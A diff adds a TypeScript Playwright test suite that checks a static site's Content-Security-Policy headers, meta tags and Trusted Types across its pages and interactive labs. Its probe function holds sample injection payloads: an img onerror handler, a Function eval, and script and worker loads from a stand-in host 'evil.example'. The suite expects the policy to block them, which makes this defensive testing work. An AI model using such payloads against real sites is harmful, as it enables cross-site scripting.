@@ -1,0 +1,178 @@
+/**
+ * One page of each kind and every lab under the policy of the site, from the header and from the page itself: a reader acts on
+ * it, nothing of ours breaks the policy, and what would turn a string into markup or script is stopped.
+ */
+
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { type Acts, type Looked, lookAtPages } from '../../bench/security/look-at-pages.ts';
+import { headerPolicy, metaPolicy, policyKindOf } from '../../src/export/host/page-policy.ts';
+import { type Serving, serve } from '../../tools/serve/serve.ts';
+import { pageKinds } from '../page-kinds.ts';
+
+const root = process.env['DIST'] ?? 'dist';
+const labs = ['conversion-race', 'cost', 'huge-pages', 'in-place-conversion', 'migration', 'stray-access'];
+const claim = 'c/sean-not-the-preferred-store-for-all-vms/';
+const paths = [...new Set([...Object.values(pageKinds(root)), claim, ...labs.map((lab) => `labs/${lab}/`)])];
+/** It runs what a reader wrote: in a sandbox without an origin, in a worker made of a string, with no connection at all. */
+const frame = 'labs/run-frame/';
+
+const stepped = async (page: Page) => {
+  for (const name of ['Next', 'Run'])
+    for (const button of await page.locator('.lab-stage').getByRole('button', { name, exact: true }).all())
+      if ((await button.isVisible()) && (await button.isEnabled())) await button.click();
+};
+const acts: Acts = {
+  '': async (page) => {
+    await page.locator('.find input').fill('was migration a hard no?');
+    await page.keyboard.press('Enter');
+    await page.locator('loremark-search li').first().waitFor();
+    await page.goBack({ waitUntil: 'load' });
+  },
+  'matrix/': async (page) => {
+    await page.locator('[data-cell="page-migration--sean-christopherson"]').focus();
+    await page.locator('.matrix-panel').waitFor();
+  },
+  'positions/sean-christopherson/': async (page) => {
+    await page.locator('.note').first().getByRole('button', { name: 'copy' }).click();
+    await page.locator('.row .text p').last().selectText();
+    await page.getByRole('button', { name: 'Cite these words' }).click();
+  },
+  [claim]: async (page) => {
+    await page.getByRole('button', { name: 'Copy for mail' }).click();
+    await page.locator('#forms summary').click();
+    await page.locator('[data-copy-from=cite-bibtex]').click();
+  },
+  'search/': async (page) => {
+    await page.locator('#query').fill('guest_memfd');
+    await page.locator('loremark-search li').first().waitFor();
+    await page.getByRole('button', { name: 'Show more' }).click();
+  },
+  'find/': async (page) => {
+    await page.locator('#mail').fill('sean-all-vm-types-not-just-coco');
+    await page.getByRole('button', { name: 'Look up' }).click();
+    await page.locator('.answers > *').first().waitFor();
+  },
+  ...Object.fromEntries(labs.map((lab) => [`labs/${lab}/`, stepped])),
+  'labs/conversion-race/': async (page) => {
+    await stepped(page);
+    await page.locator('[data-explore]').click();
+    await page.locator('[data-found]:not([hidden])').first().waitFor();
+  },
+  'labs/in-place-conversion/': async (page) => {
+    await stepped(page);
+    await page.getByRole('textbox', { name: 'Example' }).fill("console.log('it ran');\n");
+    await page.getByRole('button', { name: 'Run' }).click();
+    await page.locator('[data-editor=output]').getByText('it ran').waitFor();
+  },
+};
+
+/** What the policy of the page lets somebody make of a string. */
+function strings(): readonly string[] {
+  const element = document.createElement('div');
+  const let_ = (what: string, run: () => unknown) => {
+    try {
+      run();
+      return [what];
+    } catch {
+      return [];
+    }
+  };
+  return [
+    ...let_('a handler', () => {
+      element.innerHTML = '<img src="/missing.png" onerror="pwn01()">';
+    }),
+    ...let_('text', () => {
+      element.innerHTML = '<b>words</b>';
+    }),
+    ...let_('code', () => Function('return 1')()),
+    ...let_('a script elsewhere', () => {
+      document.createElement('script').src = 'https://evil.example/x.js';
+    }),
+    ...let_('a worker elsewhere', () => new Worker('https://evil.example/x.js')),
+  ];
+}
+
+let browser: Browser;
+let site: Serving;
+beforeAll(async () => {
+  browser = await chromium.connect(inject('browser'));
+  site = await serve({ root, port: 0 });
+});
+afterAll(async () => {
+  await site.close();
+  await browser.close();
+});
+
+describe('the policy', () => {
+  it.each([...paths, frame])('is sent with /%s, and stands in its head', async (path) => {
+    const answer = await fetch(new URL(path, site.url));
+    const sent = answer.headers.get('content-security-policy') ?? '';
+    expect(sent).toBe(headerPolicy(policyKindOf(path)));
+    const meta = /<meta http-equiv="content-security-policy" content="([^"]*)"/i.exec(
+      await answer.text(),
+    )?.[1];
+    expect(meta?.replaceAll('&#39;', "'").replaceAll('&#x27;', "'")).toBe(metaPolicy(policyKindOf(path)));
+    expect(sent.includes("require-trusted-types-for 'script'"), 'only the frame has no Trusted Types').toBe(
+      path !== frame,
+    );
+  });
+});
+
+describe('a reader who acts on each page', () => {
+  const possible: Record<string, readonly string[]> = {};
+  let looked: Looked = { faults: ['not looked at'], words: '' };
+  beforeAll(async () => {
+    const probed = paths.map((path): readonly [string, (page: Page) => Promise<void>] => [
+      path,
+      async (page) => {
+        await acts[path]?.(page);
+      },
+    ]);
+    looked = await lookAtPages(browser, root, paths, Object.fromEntries(probed));
+  }, 600_000);
+
+  it('never breaks the policy, and asks nobody else for anything', () => {
+    expect(looked.faults).toEqual([]);
+    expect(Object.keys(acts).filter((path) => !paths.includes(path))).toEqual([]);
+  });
+
+  it('is safe from strings: no page makes script of one, and only labs make their own markup', async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    for (const path of ['', claim, 'search/', 'find/', 'matrix/', ...labs.map((lab) => `labs/${lab}/`)]) {
+      await page.goto(new URL(path, site.url).href, { waitUntil: 'load' });
+      possible[path] = await page.evaluate(strings);
+    }
+    await context.close();
+    const lab = (path: string) => path.startsWith('labs/');
+    for (const [path, found] of Object.entries(possible))
+      expect([path, found]).toEqual([path, lab(path) ? ['text'] : []]);
+  });
+});
+
+it('the policy in the head of a page holds where a host sends no headers', async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.route('**/*', async (route) => {
+    const { pathname } = new URL(route.request().url());
+    const file = join(root, pathname.endsWith('/') ? `${pathname}index.html` : pathname);
+    const types: Readonly<Record<string, string>> = {
+      html: 'text/html',
+      js: 'text/javascript',
+      css: 'text/css',
+    };
+    const contentType = types[file.slice(file.lastIndexOf('.') + 1)] ?? 'application/octet-stream';
+    await route.fulfill({ body: readFileSync(file), contentType });
+  });
+  for (const [path, found] of [
+    ['about/', []],
+    ['labs/cost/', ['text']],
+  ] as const) {
+    await page.goto(`https://plain.example/${path}`, { waitUntil: 'load' });
+    expect(await page.evaluate(strings), path).toEqual(found);
+  }
+  await context.close();
+});
